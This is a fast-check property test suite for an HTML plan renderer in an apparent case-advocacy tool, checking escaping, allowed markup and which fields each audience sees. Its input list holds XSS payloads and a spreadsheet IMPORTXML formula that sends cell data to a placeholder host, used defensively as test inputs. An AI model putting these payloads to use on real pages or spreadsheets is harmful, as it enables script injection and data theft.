import fc from 'fast-check';
import { addDays } from '../../../src/domain/civilDate';
import { makePlan } from '../../../src/domain/plan/makePlan';
import type { CaseField, PlanSource, TextField } from '../../../src/domain/plan/planSource';
import { renderPlanHtml } from '../../../src/domain/plan/renderPlanHtml';
import {
  CASE_OUTCOMES,
  CERTAINTIES,
  CUSTODIES,
  DATE_KINDS,
  DATE_STATUSES,
  ORDERS,
  STAGES,
  STAY_KINDS,
  STAYS,
  SUBJECTS,
  TARGET_ROLES,
  USES,
} from '../../../src/domain/vocabulary';
import { type Page, type PageElement, parsePage } from './planDocument';
import {
  agreed,
  BLANK_CASE,
  dateRecord,
  NOTHING_DECIDED,
  planSource,
  REFUSED,
  type SourceFields,
  TODAY,
  targetRecord,
} from './planFixtures';

const RUNS = { numRuns: 40 };

/** Words nobody writes by chance, so that a field can be found again in the text. */
const secret = fc.stringMatching(/^zq[a-z]{6}qz$/);
const nasty = fc.constantFrom(
  '<img src=x onerror=alert(1)>',
  '</td></tr></table><script>alert(1)</script>',
  '" style="x" onclick="y',
  '\u200b',
  '\u202e',
  '   ',
  '\ud800',
  '<b>\n</b>',
  '=IMPORTXML("http://example.test/?"&A1,"//a")',
  '&lt;i&gt;',
);
const typed = fc.option(fc.oneof(secret, nasty, fc.string({ unit: 'binary', maxLength: 30 })));
const day = fc.option(fc.integer({ min: -60, max: 120 }).map((n) => addDays(TODAY, n)));
const oneOf = <T>(values: readonly T[]) => fc.option(fc.constantFrom(...values));

const TEXT_FIELDS = (Object.keys(BLANK_CASE) as CaseField[]).filter(
  (field): field is TextField =>
    ![
      'code',
      'stage',
      'custody',
      'order',
      'stay',
      'stayKind',
      'outcome',
      'referralUnderWay',
      'mobilizable',
      'goal',
    ].includes(field) && !/On$|Until$|Since$/.test(field),
);

const texts = fc.record(Object.fromEntries(TEXT_FIELDS.map((field) => [field, typed])));
const aCase = fc
  .tuple(
    texts,
    fc.record({
      code: fc.oneof(fc.constant('C-001'), fc.string({ unit: 'binary', maxLength: 6 })),
      stage: oneOf(STAGES),
      custody: oneOf(CUSTODIES),
      order: oneOf(ORDERS),
      stay: oneOf(STAYS),
      stayKind: oneOf(STAY_KINDS),
      outcome: oneOf(CASE_OUTCOMES),
      referralUnderWay: fc.option(fc.boolean()),
      mobilizable: fc.option(fc.nat(300)),
      goal: fc.option(fc.nat(50)),
      detainedSince: day,
      stayUntil: fc.oneof(day, fc.constant('unreadable' as const)),
      stopOn: fc.oneof(fc.constant(null), day, fc.constant('unreadable' as const)),
      stayConfirmedOn: day,
      authorizationOn: day,
      authorizationUntil: day,
      authorizationRevokedOn: fc.oneof(fc.constant(null), day),
      factsGoneThroughOn: day,
      familySpokenOn: day,
      closedOn: day,
    }),
  )
  .map(([words, rest]) => ({ ...words, ...rest }));

const aDate = fc
  .record({
    date: day,
    kind: fc.option(
      fc.oneof(
        fc.constantFrom(...DATE_KINDS),
        fc.string().map((words) => ({ words })),
      ),
    ),
    place: typed,
    certainty: oneOf(CERTAINTIES),
    lastVerified: day,
    confirmedBy: typed,
    status: oneOf(DATE_STATUSES),
    whatHappened: typed,
  })
  .map((fields) => dateRecord(fields));

const aTarget = fc
  .record({
    code: fc.constantFrom('T-01', 'T-02'),
    role: fc.option(
      fc.oneof(
        fc.constantFrom(...TARGET_ROLES),
        fc.string().map((words) => ({ words })),
      ),
    ),
    office: typed,
    name: typed,
    officialLine: typed,
    extension: typed,
    lastVerified: day,
    verifiedBy: typed,
  })
  .map((fields) => targetRecord(fields));

const aDecision = fc.oneof(
  fc.constant(NOTHING_DECIDED.Calls),
  fc.constant(REFUSED),
  fc.subarray([...USES]).map((uses) => agreed(uses)),
);

const aSource: fc.Arbitrary<PlanSource> = fc
  .record({
    language: fc.constantFrom('en' as const, 'es' as const),
    audience: fc.constantFrom('Attorney' as const, 'Team' as const),
    case: aCase,
    dates: fc.array(aDate, { maxLength: 5 }),
    targets: fc.array(aTarget, { maxLength: 3 }),
    decided: fc.record(Object.fromEntries(SUBJECTS.map((s) => [s, aDecision]))),
    settings: fc.record({ groupName: typed, firstLine: typed, codesOnly: fc.option(fc.boolean()) }),
    useUntil: day,
    id: fc.string(),
  })
  .map((fields) => planSource(fields as SourceFields));

function documentOf(source: PlanSource): Page {
  return parsePage(renderPlanHtml(makePlan(source)));
}

/** For words of letters only, which escaping leaves alone. */
function wordsOf(source: PlanSource): string {
  return renderPlanHtml(makePlan(source));
}

const BLOCKS = 'h1,h2,h3,p,li,th,td,strong,em,ul,ol,table,tbody,tr';

function all(document: Page, selector: string): PageElement[] {
  return [...document.querySelectorAll(selector)];
}

/** A heading's level; below every heading for anything else, above all for nothing. */
function levelOf(element: PageElement | null): number {
  if (element === null) return 0;
  return /^h[1-6]$/.test(element.localName) ? Number(element.localName[1]) : 9;
}

function isBlank(element: PageElement): boolean {
  return (element.textContent ?? '').replace(/[\s\p{DI}\p{Cc}\p{Cf}]/gu, '') === '';
}

const withSecrets = fc
  .record({ source: aSource, denied: fc.subarray(TEXT_FIELDS, { minLength: 1 }) })
  .map(({ source, denied }) => ({ source: { ...source, case: { ...source.case, ...secretsOf() } }, denied }));

/** A word of its own in each text field; letters only, so that no rule takes it for something else. */
function secretsOf(): Record<string, string> {
  const letters = (n: number) => String.fromCharCode(97 + Math.floor(n / 26), 97 + (n % 26));
  return Object.fromEntries(TEXT_FIELDS.map((field, n) => [field, `zq${letters(n)}xqz`]));
}

describe('any plan', () => {
  it('[P3] has nothing empty: no heading over nothing, no blank cell but for the pen', () => {
    fc.assert(
      fc.property(aSource, (source) => {
        const document = documentOf(source);
        const tables = [...document.querySelectorAll('table')];
        const form = tables[tables.length - 1];
        const blank = all(document, BLOCKS).filter(
          (e) => isBlank(e) && !(e.localName === 'td' && form?.contains(e)),
        );
        const bare = all(document, 'h1,h2,h3').filter((e) => levelOf(e.nextElementSibling) <= levelOf(e));
        expect([...blank, ...bare].map((e) => e.outerHTML)).toEqual([]);
      }),
      RUNS,
    );
  });

  it('[S2] holds only the elements and attributes of its own', () => {
    const allowed =
      /^(html|head|meta|title|body|main|h[123]|p|[uo]l|li|table|thead|tbody|t[rhd]|strong|em|br)$/;
    fc.assert(
      fc.property(aSource, (source) => {
        const elements = all(documentOf(source), '*');
        const names = new Set(elements.map((e) => e.localName));
        const attributes = new Set(elements.flatMap((e) => e.getAttributeNames()));
        expect([...names].filter((name) => !allowed.test(name))).toEqual([]);
        expect([...attributes].filter((a) => !/^(style|lang|scope|charset|name|content)$/.test(a))).toEqual(
          [],
        );
      }),
      RUNS,
    );
  });

  it('[P6] shows no field that its audience may not see', () => {
    fc.assert(
      fc.property(withSecrets, ({ source, denied }) => {
        const mayShow = (field: CaseField) => !(denied as CaseField[]).includes(field);
        const text = wordsOf({ ...source, mayShow });
        expect(denied.filter((field) => text.includes(source.case[field] ?? ''))).toEqual([]);
      }),
      RUNS,
    );
  });

  it('[P6] holds together even for an audience that may see no field at all', () => {
    fc.assert(
      fc.property(aSource, (source) => {
        const document = documentOf({ ...source, mayShow: () => false });
        for (const e of document.querySelectorAll('h2,h3,p,li,th')) expect(isBlank(e)).toBe(false);
      }),
      { numRuns: 20 },
    );
  });

  it('[P3] lists what is left out for the team only', () => {
    fc.assert(
      fc.property(aSource, (source) => {
        const has = makePlan(source).sections.some((s) => s.key === 'leftOut');
        expect(has).toBe(source.audience === 'Team');
      }),
      RUNS,
    );
  });

  it('[P2] never holds the real name without its decision in force, nor the attorney’s copy at all', () => {
    fc.assert(
      fc.property(withSecrets, ({ source }) => {
        const text = wordsOf(source);
        const agreedTo = source.decisionStates['Real name'].state === 'In force';
        const mayHold = agreedTo && source.audience === 'Team' && source.settings.codesOnly !== true;
        expect(text.includes(source.case.realName ?? '')).toBe(mayHold);
      }),
      RUNS,
    );
  });

  it('[C9] prints no script and no number while calls are stopped', () => {
    fc.assert(
      fc.property(aSource, (source) => {
        const { calls } = source.figures;
        const plan = makePlan({
          ...source,
          figures: { ...source.figures, calls: { ...calls, state: 'Stop' } },
        });
        const script = plan.sections.find((s) => s.key === 'script');
        expect(JSON.stringify(script)).not.toContain('"speech"');
        expect(JSON.stringify(script)).toContain(source.words.plan.glance.callState.Stop);
        expect(JSON.stringify(plan)).not.toContain(JSON.stringify(source.words.plan.strategies.whoColumns));
      }),
      RUNS,
    );
  });

  it('[P8] prints whereabouts only of a person who is detained', () => {
    fc.assert(
      fc.property(withSecrets, ({ source }) => {
        const text = wordsOf(source);
        if (source.case.custody !== 'Detained') expect(text).not.toContain(source.case.heldAt);
      }),
      RUNS,
    );
  });

  it('[L8] puts every free text of the case through the leak check', () => {
    fc.assert(
      fc.property(withSecrets, ({ source }) => {
        const leftOut = (text: string) => ({ text: text.replace(/zq\w+qz/g, 'X'), found: ['X'] });
        const text = wordsOf({ ...source, leftOut });
        expect(TEXT_FIELDS.filter((field) => text.includes(source.case[field] ?? ''))).toEqual([]);
      }),
      RUNS,
    );
  });

  it('[P4] is the same for the same facts', () => {
    fc.assert(
      fc.property(aSource, (source) => expect(makePlan(source)).toEqual(makePlan(source))),
      { numRuns: 20 },
    );
  });
});
